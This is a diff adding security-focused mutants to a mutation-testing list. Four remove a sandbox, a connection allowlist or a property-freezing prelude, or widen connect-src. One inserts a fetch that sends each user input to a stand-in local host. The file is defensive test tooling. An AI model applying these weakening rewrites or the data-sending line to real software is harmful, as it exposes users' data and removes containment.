@@ -105,4 +105,40 @@ export const MUTANTS: readonly Mutant[] = [
     replace: 'latest = act.at;',
     killedBy: 'tests/core/journal.test.ts',
   },
+  {
+    name: 'no-sandbox',
+    file: 'src/securityHeaders.ts',
+    find: "  sandbox: 'allow-scripts allow-same-origin allow-downloads allow-forms allow-modals',\n",
+    replace: '',
+    killedBy: 'containment',
+  },
+  {
+    name: 'no-connection-allowlist',
+    file: 'src/securityHeaders.ts',
+    find: "  'Connection-Allowlist': '(response-origin);webrtc=block',\n",
+    replace: '',
+    killedBy: 'containment',
+  },
+  {
+    name: 'connect-anywhere',
+    file: 'src/securityHeaders.ts',
+    find: `'connect-src': "'self'",\n  'manifest-src'`,
+    replace: `'connect-src': '*',\n  'manifest-src'`,
+    killedBy: 'containment',
+  },
+  {
+    name: 'no-prelude',
+    file: 'src/prelude.ts',
+    find: 'Object.defineProperty(owner, name, { value: undefined, writable: false, configurable: false });',
+    replace: 'void [owner, name];',
+    killedBy: 'containment',
+  },
+  {
+    name: 'texts-sent-away',
+    file: 'workers/encoderService.ts',
+    find: 'const measurement = encoder.measure(request.inputs[row]);',
+    replace: `const measurement = encoder.measure(request.inputs[row]);
+      void fetch('http://127.0.0.1:8/', { method: 'POST', body: JSON.stringify(request.inputs[row]) }).catch(() => 0);`,
+    killedBy: 'privacy',
+  },
 ];
